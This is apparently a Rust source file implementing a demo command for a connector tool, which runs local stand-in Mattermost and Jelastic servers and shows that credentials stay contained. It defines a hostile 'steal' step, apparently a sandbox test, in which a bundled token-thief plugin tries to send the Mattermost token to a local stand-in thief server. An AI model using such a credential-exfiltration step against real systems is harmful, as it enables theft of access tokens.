//! `jackfield demo`: everything at work, on this machine only.
//!
//! Two stand-in servers are started in this process; every command that is shown is then really
//! run, as a process of its own, with the credentials in its environment. What the servers
//! received is shown at the end of each.

mod stage;

use std::fs;
use std::path::Path;

use jackfield_standin::{Jelastic, Mattermost, Web};
use serde_json::{Value, json};

use crate::bundled::THIEF;
use crate::failure::Failure;
use crate::terminal::show as show_text;
use stage::Stage;

const ANNOUNCE: &str = include_str!("../../../../examples/announce-release.json");
const STOP: &str = include_str!("../../../../examples/stop-environment.json");

/// Shows it.
pub(crate) fn demo() -> Result<(), Failure> {
    let failed = |error: std::io::Error| Failure::internal(format!("the demo cannot run: {error}"));
    let directory = tempfile::tempdir().map_err(failed)?;
    let thief_server = Web::start().map_err(failed)?;
    write_files(directory.path(), &thief_server.base_url()).map_err(failed)?;
    let mattermost = Mattermost::start().map_err(failed)?;
    let jelastic = Jelastic::start().map_err(failed)?;
    let mut stage = Stage::new(directory.path()).map_err(failed)?;
    stage.credential(
        "TEAM_CHAT",
        "mattermost",
        &mattermost.base_url(),
        Mattermost::TOKEN,
    );
    stage.credential("CLOUD", "jelastic", &jelastic.base_url(), Jelastic::TOKEN);
    let shown = show(&stage, &mattermost, &jelastic, &thief_server).map_err(failed)?;
    show_text(&shown)
}

fn write_files(directory: &Path, thief_server: &str) -> std::io::Result<()> {
    fs::write(directory.join("announce-release.json"), ANNOUNCE)?;
    fs::write(directory.join("stop-environment.json"), STOP)?;
    fs::write(directory.join("token-thief.wasm"), THIEF.wasm)?;
    let steal = json!({
        "name": "steal",
        "steps": [{
            "name": "Steal",
            "uses": format!("{}/token.carry-off", THIEF.name),
            "credential": "team-chat",
            "with": { "to": thief_server },
        }],
    });
    fs::write(directory.join("steal.json"), format!("{steal:#}\n"))
}

fn show(
    stage: &Stage<'_>,
    mattermost: &Mattermost,
    jelastic: &Jelastic,
    thief_server: &Web,
) -> std::io::Result<String> {
    let mut text = format!(
        "Two stand-in servers run in this process: Mattermost at {}, Jelastic at {}.\nThe commands below are run as they stand; both tokens are in their environment.\n",
        mattermost.base_url(),
        jelastic.base_url()
    );
    text += &stage.run(&["credential", "check", "team-chat"], 0)?;
    text += &stage.run(
        &[
            "run",
            "announce-release.json",
            "--input",
            r#"[{"version":"1.2.3"}]"#,
        ],
        0,
    )?;
    for post in mattermost.posts() {
        let part = |key: &str| post.get(key).and_then(Value::as_str).unwrap_or_default();
        text += &format!(
            "  Mattermost has the post {}: {}\n",
            part("id"),
            part("message")
        );
    }
    let stop = |environment: &str, exit| {
        let input = format!(r#"{{"envName":"{environment}"}}"#);
        stage.run(&["run", "stop-environment.json", "--input", &input], exit)
    };
    text += &stop("shop", 0)?;
    text += &format!(
        "  Jelastic has the environment shop in status {} (2 is down)\n",
        jelastic.environment_status("shop").unwrap_or_default()
    );
    text += &stop("legacy", 4)?;
    let received = jelastic.received();
    let in_form = received
        .iter()
        .filter(|request| {
            let token = ("session".to_owned(), Jelastic::TOKEN.to_owned());
            request.form().contains(&token)
        })
        .count();
    text += &format!(
        "  Jelastic received {} requests, {in_form} of them with the token in the form field `session`\n",
        received.len()
    );
    text += "\nA hostile connector is given the Mattermost credential and tries to carry the token off:\n";
    let before = mattermost.received().len();
    text += &stage.run(
        &[
            "run",
            "steal.json",
            "--plugin",
            "token-thief.wasm",
            "--output",
            "none",
        ],
        0,
    )?;
    text += &format!(
        "  Mattermost received {} of its requests, the thief's server {}\n",
        mattermost.received().len() - before,
        thief_server.received().len()
    );
    text += "\nThe same against your own Mattermost:\n\n";
    text += "  export JACKFIELD_CREDENTIAL_TEAM_CHAT='{\"type\":\"mattermost\",\"baseUrl\":\"https://chat.example.com\",\"accessToken\":\"…\"}'\n";
    let program = std::env::args()
        .next()
        .unwrap_or_else(|| "jackfield".to_owned());
    text += &format!(
        "  {program} credential check team-chat\n  {program} run examples/announce-release.json --input '[{{\"version\":\"1.2.3\"}}]'\n"
    );
    Ok(text)
}
